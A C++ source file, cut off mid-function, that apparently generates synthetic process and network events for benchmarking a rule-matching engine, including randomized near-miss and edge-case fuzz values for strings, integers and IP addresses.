#include "bench/synthetic_events.h"

#include "codegen/semantics.h"
#include "frontend/fields.h"

#include <algorithm>
#include <array>
#include <climits>
#include <cstring>
#include <stdexcept>
#include <utility>

namespace saker::synth {

using ast::CmpOp;
using ast::Operand;
using ast::Transform;

namespace {

const FieldInfo& info_of(std::string_view name) {
    const FieldInfo* f = FieldRegistry::instance().find(name);
    if (!f) throw std::invalid_argument("synthetic events: unknown field " + std::string(name));
    return *f;
}
uint16_t id_of(std::string_view name) {
    return info_of(name).id;
}

struct AncestorIds {
    uint16_t evt_type;
    uint16_t chain[5]; // proc.aname, proc.apid, proc.aexepath, proc.aexe, proc.acmdline
    uint16_t self[5];  // proc.name, proc.pid, proc.exepath, proc.exe, proc.cmdline
};

const AncestorIds& anc_ids() {
    static const AncestorIds ids = {
        id_of("evt.type"),
        {id_of("proc.aname"), id_of("proc.apid"), id_of("proc.aexepath"), id_of("proc.aexe"),
         id_of("proc.acmdline")},
        {id_of("proc.name"), id_of("proc.pid"), id_of("proc.exepath"), id_of("proc.exe"),
         id_of("proc.cmdline")},
    };
    return ids;
}

// The field that `[0]` of an ancestor field designates, or -1 when `f` is no ancestor field.
int ancestor_self(uint16_t f) {
    const AncestorIds& a = anc_ids();
    for (int i = 0; i < 5; ++i)
        if (a.chain[i] == f) return a.self[i];
    return -1;
}

bool is_ancestor(uint16_t f) {
    return ancestor_self(f) >= 0;
}

ValueKind kind_for(FieldType t) {
    switch (t) {
    case FieldType::String:
    case FieldType::Bytes:
        return ValueKind::Str;
    case FieldType::IpAddr:
    case FieldType::IpNet:
        return ValueKind::Ip;
    default:
        return ValueKind::Int;
    }
}

void append_escaped(std::string& out, std::string_view s) {
    static const char* hex = "0123456789abcdef";
    out += '"';
    size_t shown = s.size() > 96 ? 64 : s.size();
    for (size_t i = 0; i < shown; ++i) {
        unsigned char c = static_cast<unsigned char>(s[i]);
        if (c == '"' || c == '\\') {
            out += '\\';
            out += static_cast<char>(c);
        } else if (c >= 0x20 && c < 0x7f) {
            out += static_cast<char>(c);
        } else {
            out += "\\x";
            out += hex[c >> 4];
            out += hex[c & 15];
        }
    }
    out += '"';
    if (shown < s.size())
        out += "...(" + std::to_string(s.size()) + " bytes, ends with " +
               std::string(s.substr(s.size() - 16).find('\0') == std::string_view::npos
                               ? s.substr(s.size() - 16)
                               : "<bytes>") +
               ")";
}

std::string ip_text(const uint8_t* ip) {
    static const uint8_t mapped[12] = {0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff};
    char buf[64];
    if (std::memcmp(ip, mapped, 12) == 0) {
        std::snprintf(buf, sizeof buf, "%u.%u.%u.%u", ip[12], ip[13], ip[14], ip[15]);
        return buf;
    }
    std::string out;
    for (int i = 0; i < 16; i += 2) {
        std::snprintf(buf, sizeof buf, "%s%x", i ? ":" : "", ip[i] << 8 | ip[i + 1]);
        out += buf;
    }
    return out;
}

} // namespace

// ---- SyntheticEvent ----------------------------------------------------------------------

// A copy rebuilds its own materialized values and field table at once, so that all of its
// storage is allocated together (the benchmark packs events this way).
SyntheticEvent::SyntheticEvent(const SyntheticEvent& o)
    : type_(o.type_), entries_(o.entries_), bytes_(o.bytes_), items_(o.items_), dirty_(true) {
    materialize();
}

SyntheticEvent& SyntheticEvent::operator=(const SyntheticEvent& o) {
    if (this != &o) {
        type_ = o.type_;
        entries_ = o.entries_;
        bytes_ = o.bytes_;
        items_ = o.items_;
        materialized_.clear();
        dirty_ = true;
        materialize();
    }
    return *this;
}

std::string_view SyntheticEvent::type_name() const {
    auto types = known_event_types();
    return type_ < types.size() ? types[type_] : std::string_view{};
}

uint32_t SyntheticEvent::store(std::string_view b) {
    uint32_t off = static_cast<uint32_t>(bytes_.size());
    bytes_.insert(bytes_.end(), b.begin(), b.end());
    dirty_ = true;
    return off;
}

const SyntheticEvent::Entry* SyntheticEvent::find(uint16_t field, std::string_view key,
                                                  bool has_arg) const {
    auto match = [&](const Entry& e) {
        return bool(e.kind & kHasArg) == has_arg && (!has_arg || key_of(e) == key);
    };
    if (!dirty_ && !dense_.empty()) { // sorted: the field's entries are adjacent
        if (field >= dense_.size() || !dense_[field]) return nullptr;
        for (size_t k = dense_[field] - 1u; k < entries_.size() && entries_[k].field == field; ++k)
            if (match(entries_[k])) return &entries_[k];
        return nullptr;
    }
    for (const Entry& e : entries_)
        if (e.field == field && match(e)) return &e;
    return nullptr;
}

SyntheticEvent::Entry* SyntheticEvent::find(uint16_t field, std::string_view key, bool has_arg) {
    return const_cast<Entry*>(std::as_const(*this).find(field, key, has_arg));
}

SyntheticEvent::Entry& SyntheticEvent::slot(uint16_t field, const std::string* arg) {
    std::string_view key = arg ? std::string_view(*arg).substr(0, 255) : std::string_view{};
    if (Entry* e = find(field, key, arg != nullptr)) return *e;
    dirty_ = true;
    Entry e{};
    e.field = field;
    e.kind = arg ? kHasArg : 0;
    e.key_len = static_cast<uint8_t>(key.size());
    e.key_off = store(key);
    entries_.push_back(e);
    return entries_.back();
}

static int64_t pack(uint32_t off, uint32_t len) {
    return static_cast<int64_t>(static_cast<uint64_t>(off) << 32 | len);
}
static uint32_t hi(int64_t v) {
    return static_cast<uint32_t>(static_cast<uint64_t>(v) >> 32);
}
static uint32_t lo(int64_t v) {
    return static_cast<uint32_t>(static_cast<uint64_t>(v));
}

void SyntheticEvent::set_int(uint16_t field, int64_t v, const std::string* arg) {
    Entry& e = slot(field, arg);
    e.kind = static_cast<uint8_t>((e.kind & kHasArg) | uint8_t(ValueKind::Int));
    e.i = v;
    dirty_ = true; // the published hot values
}

void SyntheticEvent::set_str(uint16_t field, std::string_view v, const std::string* arg) {
    Entry& e = slot(field, arg);
    uint32_t off = store(v); // `e` stays valid: entries_ is not touched by store()
    e.kind = static_cast<uint8_t>((e.kind & kHasArg) | uint8_t(ValueKind::Str));
    e.i = pack(off, static_cast<uint32_t>(v.size()));
}

void SyntheticEvent::set_ip(uint16_t field, const uint8_t ip[16], const std::string* arg) {
    Entry& e = slot(field, arg);
    uint32_t off = store({reinterpret_cast<const char*>(ip), 16});
    e.kind = static_cast<uint8_t>((e.kind & kHasArg) | uint8_t(ValueKind::Ip));
    e.i = pack(off, 16);
}

void SyntheticEvent::set_str_list(uint16_t field, const std::vector<std::string>& items,
                                  const std::string* arg) {
    Entry& e = slot(field, arg);
    uint32_t first = static_cast<uint32_t>(items_.size());
    size_t entry_at = static_cast<size_t>(&e - entries_.data());
    for (const auto& s : items) {
        uint32_t off = store(s);
        items_.push_back({ValueKind::Str, pack(off, static_cast<uint32_t>(s.size()))});
    }
    Entry& e2 = entries_[entry_at];
    e2.kind = static_cast<uint8_t>((e2.kind & kHasArg) | uint8_t(ValueKind::List));
    e2.i = pack(first, static_cast<uint32_t>(items.size()));
    dirty_ = true;
}

void SyntheticEvent::set_int_list(uint16_t field, const std::vector<int64_t>& items,
                                  const std::string* arg) {
    Entry& e = slot(field, arg);
    uint32_t first = static_cast<uint32_t>(items_.size());
    for (int64_t v : items)
        items_.push_back({ValueKind::Int, v});
    e.kind = static_cast<uint8_t>((e.kind & kHasArg) | uint8_t(ValueKind::List));
    e.i = pack(first, static_cast<uint32_t>(items.size()));
    dirty_ = true;
}

void SyntheticEvent::unset(uint16_t field, const std::string* arg) {
    std::string_view key = arg ? std::string_view(*arg).substr(0, 255) : std::string_view{};
    if (Entry* e = find(field, key, arg != nullptr)) {
        entries_.erase(entries_.begin() + (e - entries_.data()));
        dirty_ = true;
    }
}

void SyntheticEvent::set_int(std::string_view f, int64_t v) {
    set_int(id_of(f), v);
}
void SyntheticEvent::set_str(std::string_view f, std::string_view v) {
    set_str(id_of(f), v);
}
void SyntheticEvent::set_ip(std::string_view f, const uint8_t ip[16]) {
    set_ip(id_of(f), ip);
}
void SyntheticEvent::set_str_list(std::string_view f, const std::vector<std::string>& items) {
    set_str_list(id_of(f), items);
}
void SyntheticEvent::set_int_list(std::string_view f, const std::vector<int64_t>& items) {
    set_int_list(id_of(f), items);
}
void SyntheticEvent::set_arg_str(std::string_view f, std::string_view arg, std::string_view v) {
    std::string a(arg);
    set_str(id_of(f), v, &a);
}

bool SyntheticEvent::has(uint16_t field, const std::string* arg) const {
    return find(field, arg ? std::string_view(*arg) : std::string_view{}, arg != nullptr);
}

void SyntheticEvent::materialize() {
    materialized_.resize(items_.size());
    for (size_t k = 0; k < items_.size(); ++k) {
        const Item& it = items_[k];
        materialized_[k] =
            it.kind == ValueKind::Int
                ? Value::of_int(it.i)
                : Value::of_str(std::string_view(bytes_.data() + hi(it.i), lo(it.i)));
    }
    // The field table: entries sorted by (field, no argument first), dense_[field] the first.
    std::sort(entries_.begin(), entries_.end(), [](const Entry& x, const Entry& y) {
        if (x.field != y.field) return x.field < y.field;
        if ((x.kind & kHasArg) != (y.kind & kHasArg))
            return (x.kind & kHasArg) < (y.kind & kHasArg);
        return x.key_off < y.key_off;
    });
    dense_.clear();
    if (!entries_.empty() && entries_.size() < 255) {
        dense_.assign(entries_.back().field + 1u, 0);
        for (size_t k = entries_.size(); k-- > 0;)
            dense_[entries_[k].field] = static_cast<uint8_t>(k + 1);
    }
    dirty_ = false;
    static const std::array<uint16_t, kHotFieldCount> hot_ids = [] {
        std::array<uint16_t, kHotFieldCount> ids{};
        for (size_t h = 0; h < kHotFieldCount; ++h)
            ids[h] = id_of(kHotFieldNames[h]);
        return ids;
    }();
    for (size_t h = 0; h < kHotFieldCount; ++h) {
        FieldRequest r;
        r.field = hot_ids[h];
        extract(r, hot_[h]);
    }
}

Value SyntheticEvent::value_of(const Entry& e) {
    switch (static_cast<ValueKind>(e.kind & ~kHasArg)) {
    case ValueKind::Int:
        return Value::of_int(e.i);
    case ValueKind::Str:
        return Value::of_str(std::string_view(bytes_.data() + hi(e.i), lo(e.i)));
    case ValueKind::Ip:
        return Value::of_ip(reinterpret_cast<const uint8_t*>(bytes_.data() + hi(e.i)));
    case ValueKind::List:
        if (dirty_) materialize();
        return Value::of_list(materialized_.data() + hi(e.i), lo(e.i));
    default:
        return {};
    }
}

void SyntheticEvent::extract(const FieldRequest& r, Value& out) {
    if (dirty_) materialize();
    // Fast path: a plain field, one table load and one entry load.
    if (!r.has_arg && r.field < dense_.size()) {
        if (uint8_t k = dense_[r.field]) {
            const Entry& e = entries_[k - 1u];
            if (!(e.kind & kHasArg)) {
                out = value_of(e);
                return;
            }
        }
    }
    out = Value{};
    if (r.field == anc_ids().evt_type) {
        auto types = known_event_types();
        if (type_ < types.size()) out = Value::of_str(types[type_]);
        return;
    }
    if (r.has_arg) {
        int self = ancestor_self(r.field);
        if (self >= 0) {
            if (r.index < 0) return;
            if (r.index == 0) {
                if (const Entry* e = find(static_cast<uint16_t>(self), {}, false))
                    out = value_of(*e);
                return;
            }
            const Entry* e = find(r.field, {}, false);
            if (!e || static_cast<ValueKind>(e->kind & ~kHasArg) != ValueKind::List) return;
            if (static_cast<uint64_t>(r.index) > lo(e->i)) return;
            out = materialized_[hi(e->i) + static_cast<uint32_t>(r.index) - 1];
            return;
        }
    }
    if (const Entry* e = find(r.field, r.key, r.has_arg)) out = value_of(*e);
}

std::string SyntheticEvent::describe() const {
    std::string out =
        "evt.type = " + std::string(type_name()) + " (id " + std::to_string(type_) + ")\n";
    const auto& reg = FieldRegistry::instance();
    for (const Entry& e : entries_) {
        out += "  ";
        out += reg.at(e.field).name;
        if (e.kind & kHasArg) out += "[" + std::string(key_of(e)) + "]";
        out += " = ";
        switch (static_cast<ValueKind>(e.kind & ~kHasArg)) {
        case ValueKind::Int:
            out += std::to_string(e.i);
            break;
        case ValueKind::Str:
            append_escaped(out, std::string_view(bytes_.data() + hi(e.i), lo(e.i)));
            break;
        case ValueKind::Ip:
            out += ip_text(reinterpret_cast<const uint8_t*>(bytes_.data() + hi(e.i)));
            break;
        case ValueKind::List: {
            out += "[";
            for (uint32_t k = 0; k < lo(e.i); ++k) {
                const Item& it = items_[hi(e.i) + k];
                if (k) out += ", ";
                if (it.kind == ValueKind::Int)
                    out += std::to_string(it.i);
                else
                    append_escaped(out, std::string_view(bytes_.data() + hi(it.i), lo(it.i)));
            }
            out += "]";
            break;
        }
        default:
            out += "<absent>";
            break;
        }
        out += "\n";
    }
    return out;
}

// ---- shared helpers ----------------------------------------------------------------------

namespace {

using Ip16 = std::array<uint8_t, 16>;

Ip16 v4(uint8_t a, uint8_t b, uint8_t c, uint8_t d) {
    return {0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff, a, b, c, d};
}
Ip16 v4u(uint32_t x) {
    return v4(x >> 24, x >> 16 & 0xff, x >> 8 & 0xff, x & 0xff);
}

Ip16 v6(std::initializer_list<uint16_t> groups) { // fully written out, 8 groups
    Ip16 ip{};
    int i = 0;
    for (uint16_t g : groups) {
        ip[i++] = static_cast<uint8_t>(g >> 8);
        ip[i++] = static_cast<uint8_t>(g & 0xff);
    }
    return ip;
}

struct Rng {
    std::mt19937_64& g;
    uint64_t u() { return g(); }
    size_t below(size_t n) { return n ? static_cast<size_t>(g() % n) : 0; }
    bool chance(double p) { return std::uniform_real_distribution<double>(0, 1)(g) < p; }
    template <class T> const T& pick(const std::vector<T>& v) { return v[below(v.size())]; }
    template <class T, size_t N> const T& pick(const T (&v)[N]) { return v[below(N)]; }
};

} // namespace

size_t Generator::literal_count() const {
    size_t n = 0;
    for (const auto& p : plans_)
        n += p.literals.size();
    return n;
}

SyntheticEvent Generator::next() {
    SyntheticEvent e = mode_ == Mode::Random ? next_random() : next_realistic();
    ++type_counts_[std::string(e.type_name())];
    return e;
}

// ---- random mode -------------------------------------------------------------------------

// A value being chosen for one field, before it is written into the event.
struct Draft {
    enum class K { Absent, Int, Str, Ip, StrList, IntList } k = K::Absent;
    int64_t i = 0;
    std::string s;
    Ip16 ip{};
    std::vector<std::string> strs;
    std::vector<int64_t> ints;
};

struct RandomImpl {
    explicit RandomImpl(Generator& gen) : g(gen) {}
    Generator& g;
    Rng r{g.rng_};

    static constexpr const char* kJunkChars =
        "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789/._- ";

    std::string junk(size_t max_len) {
        size_t n = r.below(max_len + 1);
        std::string s;
        for (size_t k = 0; k < n; ++k)
            s += kJunkChars[r.below(std::strlen(kJunkChars))];
        return s;
    }

    std::string case_flip(std::string s) {
        bool all = r.chance(0.5);
        for (char& c : s) {
            if (!all && !r.chance(0.3)) continue;
            if (c >= 'a' && c <= 'z')
                c = static_cast<char>(c - 32);
            else if (c >= 'A' && c <= 'Z')
                c = static_cast<char>(c + 32);
        }
        return s;
    }

    static std::string b64_encode(std::string_view in) {
        static const char* t = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        std::string out;
        size_t i = 0;
        for (; i + 2 < in.size(); i += 3) {
            uint32_t v = uint8_t(in[i]) << 16 | uint8_t(in[i + 1]) << 8 | uint8_t(in[i + 2]);
            out += {t[v >> 18], t[v >> 12 & 63], t[v >> 6 & 63], t[v & 63]};
        }
        if (i + 1 == in.size()) {
            uint32_t v = uint8_t(in[i]) << 16;
            out += {t[v >> 18], t[v >> 12 & 63], '=', '='};
        } else if (i + 2 == in.size()) {
            uint32_t v = uint8_t(in[i]) << 16 | uint8_t(in[i + 1]) << 8;
            out += {t[v >> 18], t[v >> 12 & 63], t[v >> 6 & 63], '='};
        }
        return out;
    }

    // A string the glob pattern matches (mostly; classes pick their first member).
    std::string instantiate_glob(std::string_view p) {
        std::string out;
        for (size_t i = 0; i < p.size(); ++i) {
            char c = p[i];
            if (c == '*') {
                out += junk(r.chance(0.2) ? 12 : 4);
            } else if (c == '?') {
                out += kJunkChars[r.below(62)];
            } else if (c == '[') {
                size_t j = i + 1;
                bool neg = j < p.size() && (p[j] == '!' || p[j] == '^');
                if (neg) ++j;
                size_t close = p.find(']', j + 1);
                if (close == std::string_view::npos) {
                    out += '[';
                    continue;
                }
                out += neg ? '\x01' : p[j];
                i = close;
            } else if (c == '\\' && i + 1 < p.size()) {
                out += p[++i];
            } else {
                out += c;
            }
        }
        return out;
    }

    // A guess at a string an RE2 pattern fully matches: literal text with anchors and `.*`
    // removed; patterns with other metacharacters give their text (a near miss).
    static std::string regex_guess(std::string_view p) {
        std::string out;
        for (size_t i = 0; i < p.size(); ++i) {
            char c = p[i];
            if ((c == '^' && i == 0) || (c == '$' && i + 1 == p.size())) continue;
            if (c == '.' && i + 1 < p.size() && (p[i + 1] == '*' || p[i + 1] == '+')) {
                out += p[i + 1] == '+' ? "x" : "";
                ++i;
                continue;
            }
            if (c == '\\' && i + 1 < p.size()) {
                out += p[++i];
                continue;
            }
            out += c;
        }
        return out;
    }

    // The string a literal stands for, as the field must hold it to match.
    std::string base_of(const LiteralUse& l) {
        std::string s = l.text;
        switch (l.op) {
        case CmpOp::BContains:
        case CmpOp::BStartsWith:
            s = sem::hex_decode(s);
            break;
        case CmpOp::Glob:
        case CmpOp::IGlob:
            s = instantiate_glob(s);
            break;
        case CmpOp::Regex:
            s = regex_guess(s);
            break;
        case CmpOp::Contains:
        case CmpOp::IContains:
            s = (r.chance(0.5) ? junk(6) : "") + s + junk(6);
            break;
        case CmpOp::StartsWith:
            s += junk(8);
            break;
        case CmpOp::EndsWith:
            s = junk(8) + s;
            break;
        case CmpOp::PMatch:
            if (r.chance(0.5)) s += "/" + junk(8);
            break;
        default:
            break;
        }
        if (l.op == CmpOp::IContains || l.op == CmpOp::IGlob) s = case_flip(s);
        switch (l.via) {
        case Transform::ToLower:
        case Transform::ToUpper:
            s = case_flip(s);
            break;
        case Transform::Basename:
            s = "/" + junk(10) + "/" + s;
            break;
        case Transform::B64:
            s = b64_encode(s);
            break;
        case Transform::Len:
            if (l.value.kind == ast::Constant::Kind::Int) {
                int64_t n = std::clamp<int64_t>(l.value.i + int64_t(r.below(3)) - 1, 0, 8192);
                s = std::string(static_cast<size_t>(n), 'a');
            }
            break;
        default:
            break;
        }
        return s;
    }

    // A near miss of `s`: one small edit that often flips a comparison.
    std::string near_miss(std::string s) {
        switch (r.below(9)) {
        case 0:
            return s + (r.chance(0.5) ? "x" : " ");
        case 1:
            return s.substr(0, s.empty() ? 0 : r.below(s.size()));
        case 2:
            return s + "/" + junk(10);
        case 3:
            return case_flip(s);
        case 4:
            return junk(3) + s;
        case 5: {
            size_t at = r.below(s.size() + 1);
            s.insert(at, 1, '\0');
            return s;
        }
        case 6:
            return s + std::string("\0", 1) + junk(4);
        case 7: {
            std::string big = s;
            while (big.size() < 4096)
                big += r.chance(0.5) ? s + "/" : "a";
            return big;
        }
        default:
            if (!s.empty()) s[r.below(s.size())] ^= 0x20;
            return s;
        }
    }

    std::string adversarial_str() {
        switch (r.below(12)) {
        case 0:
            return "";
        case 1:
            return std::string(4096, 'A');
        case 2: {
            std::string s = "/" + junk(6) + std::string("\0", 1) + junk(6);
            return s;
        }
        case 3:
            return "\xff\xfe\xc3\x28 \x80";
        case 4:
            return std::string("\0\0\0", 3);
        case 5:
            return "/";
        case 6: {
            std::string s;
            for (int k = 0; k < 4096; ++k)
                s += static_cast<char>(r.below(256));
            return s;
        }
        case 7:
            return "<NA>";
        case 8:
            return "/" + junk(10) + "/" + junk(10);
        case 9:
            return std::string(1, static_cast<char>(0x80 + r.below(128)));
        default:
            return junk(20);
        }
    }

    std::string random_str(const FieldPlan* plan, bool allow_literal) {
        if (allow_literal && plan) {
            std::vector<const LiteralUse*> strs;
            for (const auto& l : plan->literals)
                if (l.value.kind != ast::Constant::Kind::Int || l.via == Transform::Len)
                    strs.push_back(&l);
            if (!strs.empty() && r.chance(0.47)) {
                std::string s = base_of(*r.pick(strs));
                return r.chance(0.6) ? s : near_miss(std::move(s));
            }
        }
        if (!g.pool_.empty() && r.chance(0.3)) {
            std::string s = r.pick(g.pool_);
            return r.chance(0.5) ? s : near_miss(std::move(s));
        }
        return adversarial_str();
    }

    static void width(FieldType t, int64_t& lo_v, int64_t& hi_v) {
        switch (t) {
        case FieldType::Int8:
            lo_v = INT8_MIN, hi_v = INT8_MAX;
            break;
        case FieldType::Int16:
            lo_v = INT16_MIN, hi_v = INT16_MAX;
            break;
        case FieldType::Int32:
            lo_v = INT32_MIN, hi_v = INT32_MAX;
            break;
        case FieldType::Uint8:
            lo_v = 0, hi_v = UINT8_MAX;
            break;
        case FieldType::Uint16:
        case FieldType::Port:
            lo_v = 0, hi_v = UINT16_MAX;
            break;
        case FieldType::Uint32:
            lo_v = 0, hi_v = UINT32_MAX;
            break;
        case FieldType::Uint64:
            lo_v = INT64_MIN, hi_v = INT64_MAX;
            break; // all bit patterns
        default:
            lo_v = INT64_MIN, hi_v = INT64_MAX;
            break;
        }
    }

    int64_t adversarial_int(FieldType t) {
        if (t == FieldType::Bool) return static_cast<int64_t>(r.below(2));
        int64_t lo_v, hi_v;
        width(t, lo_v, hi_v);
        static const int64_t kAny[] = {
            0,          1,         -1,        INT64_MIN,    INT64_MAX,
            UINT32_MAX, 1LL << 32, 1LL << 31, -(1LL << 31), INT32_MAX,
            UINT16_MAX, 65536,     255,       256,          127,
            128,        -128,      32767,     -32768,       INT64_MIN + 1};
        switch (r.below(6)) {
        case 0:
            return lo_v;
        case 1:
            return hi_v;
        case 2:
            return r.chance(0.5) ? lo_v + 1 : hi_v - 1;
        case 3:
            return r.pick(kAny); // may lie outside the field's width on purpose
        case 4:
            return static_cast<int64_t>(r.below(100));
        default: {
            // uniform within the width
            uint64_t span = static_cast<uint64_t>(hi_v) - static_cast<uint64_t>(lo_v);
            uint64_t v = span == UINT64_MAX ? r.u() : r.u() % (span + 1);
            return static_cast<int64_t>(static_cast<uint64_t>(lo_v) + v);
        }
        }
    }

    int64_t random_int(const FieldPlan* plan, FieldType t) {
        if (plan) {
            std::vector<int64_t> ints;
            for (const auto& l : plan->literals)
                if ((l.value.kind == ast::Constant::Kind::Int ||
                     l.value.kind == ast::Constant::Kind::Bool) &&
                    l.via == Transform::None)
                    ints.push_back(l.value.i);
            if (!ints.empty() && r.chance(0.47)) {
                int64_t v = r.pick(ints);
                if (t == FieldType::Bool) return v;
                switch (r.below(6)) {
                case 0:
                    return static_cast<int64_t>(static_cast<uint64_t>(v) + 1);
                case 1:
                    return static_cast<int64_t>(static_cast<uint64_t>(v) - 1);
                case 2:
                    return static_cast<int64_t>(static_cast<uint64_t>(v) ^ (1ULL << 32));
                default:
                    return v;
                }
            }
        }
        return adversarial_int(t);
    }

    Ip16 adversarial_ip() {
        static const std::vector<Ip16> kIps = {
            v4(127, 0, 0, 1),
            v4(0, 0, 0, 0),
            v4(255, 255, 255, 255),
            v4(10, 0, 0, 1),
            v4(10, 255, 255, 255),
            v4(9, 255, 255, 255),
            v4(11, 0, 0, 0),
            v4(172, 16, 0, 0),
            v4(172, 31, 255, 255),
            v4(172, 32, 0, 1),
            v4(192, 168, 1, 1),
            v4(192, 169, 0, 1),
            v4(8, 8, 8, 8),
            v4(127, 255, 255, 254),
            v6({0, 0, 0, 0, 0, 0, 0, 0}),           // ::
            v6({0, 0, 0, 0, 0, 0, 0, 1}),           // ::1
            v6({0, 0, 0, 0, 0, 0, 0x7f00, 1}),      // ::127.0.0.1 (IPv4-compatible)
            v6({0, 0, 0, 0, 0, 0xfffe, 0x7f00, 1}), // not mapped (ffff -> fffe)
            v6({0xfe80, 0, 0, 0, 0, 0, 0, 1}),      // link local
            v6({0xfebf, 0xffff, 0xffff, 0xffff, 0xffff, 0xffff, 0xffff, 0xffff}),
            v6({0xfec0, 0, 0, 0, 0, 0, 0, 0}),
            v6({0x2001, 0xdb8, 0, 0, 0, 0, 0, 1}),
            v6({0xffff, 0xffff, 0xffff, 0xffff, 0xffff, 0xffff, 0xffff, 0xffff}),
        };
        switch (r.below(4)) {
        case 0:
            return v4u(static_cast<uint32_t>(r.u()));
        case 1: {
            Ip16 ip;
            for (auto& b : ip)
                b = static_cast<uint8_t>(r.below(256));
            return ip;
        }
        default:
            return r.pick(kIps);
        }
    }

    // An address inside (or, `inside` false, just outside) a network.
    Ip16 in_net(const ast::Constant& c, bool inside) {
        Ip16 ip;
        std::memcpy(ip.data(), c.ip, 16);
        unsigned prefix = std::min<unsigned>(c.prefix, 128);
        int edge = static_cast<int>(r.below(3)); // 0: random host bits, 1: first, 2: last
        for (unsigned bit = prefix; bit < 128; ++bit) {
            bool v = edge == 0 ? r.chance(0.5) : edge == 2;
            uint8_t m = static_cast<uint8_t>(0x80 >> (bit % 8));
            ip[bit / 8] = static_cast<uint8_t>(v ? ip[bit / 8] | m : ip[bit / 8] & ~m);
        }
        if (!inside && prefix > 0) {
            unsigned bit = prefix - 1 - static_cast<unsigned>(r.below(std::min(prefix, 3u)));
            ip[bit / 8] ^= static_cast<uint8_t>(0x80 >> (bit % 8));
        }
        return ip;
    }

    Ip16 random_ip(const FieldPlan* plan) {
        if (plan) {
            std::vector<const ast::Constant*> ips;
            for (const auto& l : plan->literals)
                if (l.value.kind == ast::Constant::Kind::Ip ||
                    l.value.kind == ast::Constant::Kind::Net)
                    ips.push_back(&l.value);
            if (!ips.empty() && r.chance(0.47)) {
                const ast::Constant& c = *r.pick(ips);
                if (c.kind == ast::Constant::Kind::Net) return in_net(c, r.chance(0.6));
                Ip16 ip;
                std::memcpy(ip.data(), c.ip, 16);
                if (r.chance(0.3)) ip[15] ^= 1;
                if (r.chance(0.1)) ip[10] = ip[11] = 0; // mapped -> IPv4-compatible form
                return ip;
            }
        }
        return adversarial_ip();
    }

    // One scalar value of the field's kind.
    Draft scalar(const FieldInfo& fi, const FieldPlan* plan) {
        Draft d;
        switch (kind_for(fi.type)) {
        case ValueKind::Str:
            d.k = Draft::K::Str;
            d.s = random_str(plan, true);
            break;
        case ValueKind::Ip:
            d.k = Draft::K::Ip;
            d.ip = random_ip(plan);
            break;
        default:
            d.k = Draft::K::Int;
            d.i = random_int(plan, fi.type);
            break;
        }
        return d;
    }

    // A whole value for a field reference: absent ~15%, else scalar or list.
    Draft draw(const FieldPlan& p) {
        Draft d;
        if (r.chance(0.15)) return d;
        bool list = p.ancestor || (p.info->is_list() && !p.ref.has_arg);
        if (!list) return scalar(*p.info, &p);
        size_t n = r.below(p.ancestor ? 7 : 5);
        if (kind_for(p.info->type) == ValueKind::Int) {
            d.k = Draft::K::IntList;
            for (size_t k = 0; k < n; ++k)
                d.ints.push_back(random_int(&p, p.info->type));
        } else {
            d.k = Draft::K::StrList;
            for (size_t k = 0; k < n; ++k)
                d.strs.push_back(random_str(&p, true));
        }
        return d;
    }

    static void apply(SyntheticEvent& e, const FieldRef& ref, const Draft& d) {
        const std::string* arg = ref.has_arg ? &ref.arg : nullptr;
        switch (d.k) {
        case Draft::K::Absent:
            e.unset(ref.field, arg);
            break;
        case Draft::K::Int:
            e.set_int(ref.field, d.i, arg);
            break;
        case Draft::K::Str:
            e.set_str(ref.field, d.s, arg);
            break;
        case Draft::K::Ip:
            e.set_ip(ref.field, d.ip.data(), arg);
            break;
        case Draft::K::StrList:
            e.set_str_list(ref.field, d.strs, arg);
            break;
        case Draft::K::IntList:
            e.set_int_list(ref.field, d.ints, arg);
            break;
        }
    }

    // ---- targeted generation: choose values that satisfy a rule's condition -----------

    struct Ancestry {
        std::map<int64_t, Draft> at; // index >= 1 -> value
        std::vector<Draft> any;
    };
    std::map<FieldRef, Draft> drafts;
    std::map<uint16_t, Ancestry> ancestry;

    const FieldPlan* plan_of(const FieldRef& ref) {
        FieldRef key = is_ancestor(ref.field) ? FieldRef{ref.field, false, ""} : ref;
        auto it = g.plan_index_.find(key);
        return it == g.plan_index_.end() ? nullptr : &g.plans_[it->second];
    }

    static FieldRef ref_of(const Operand& o) {
        return {o.info->id, o.has_arg, o.has_arg ? o.arg : std::string()};
    }

    // The single field a left side reads, through at most one simple transformer.
    static bool target_of(const Operand& o, FieldRef& ref, Transform& via) {
        if (o.kind == Operand::Kind::Field && o.info) {
            ref = ref_of(o);
            via = Transform::None;
            return true;
        }
        if (o.kind == Operand::Kind::Transformed && o.args.size() == 1 &&
            o.args[0].kind == Operand::Kind::Field && o.args[0].info) {
            switch (o.transform) {
            case Transform::ToLower:
            case Transform::ToUpper:
            case Transform::Basename:
            case Transform::B64:
            case Transform::Len:
                ref = ref_of(o.args[0]);
                via = o.transform;
                return true;
            default:
                return false;
            }
        }
        return false;
    }

    void assign(const FieldRef& ref, Draft d) {
        int self = ancestor_self(ref.field);
        if (self >= 0 && ref.has_arg) {
            int64_t idx = -1;
            try {
                idx = std::stoll(ref.arg);
            } catch (...) {
                return;
            }
            if (idx == 0) {
                assign(FieldRef{static_cast<uint16_t>(self), false, ""}, std::move(d));
                return;
            }
            if (idx < 0 || idx > 16 || d.k == Draft::K::Absent) return;
            ancestry[ref.field].at.emplace(idx, std::move(d));
            return;
        }
        if (self >= 0) {
            if (d.k != Draft::K::Absent) ancestry[ref.field].any.push_back(std::move(d));
            return;
        }
        drafts.emplace(ref, std::move(d)); // the first choice for a field wins
    }

    // A value making `lhs <op> lit` true for a field of type `t`.
    Draft satisfying(const ast::Expr& e, const Operand& lit, FieldType t, Transform via) {
        Draft d;
        const ast::Constant& c = lit.value;
        if (via == Transform::Len) {
            if (c.kind != ast::Constant::Kind::Int) return d;
            int64_t n = c.i;
            switch (e.op) {
            case CmpOp::Lt:
                n -= 1;
                break;
            case CmpOp::Gt:
                n += 1;
                break;
            case CmpOp::Ne:
                n += 1;
                break;
            default:
                break;
            }
            n = std::clamp<int64_t>(n, 0, 8192);
            d.k = Draft::K::Str;
            d.s = std::string(static_cast<size_t>(n), 'b');
            return d;
        }
        switch (kind_for(t)) {
        case ValueKind::Str: {
            d.k = Draft::K::Str;
            LiteralUse l{e.op, via, lit.text, c};
            if (e.op == CmpOp::Ne)
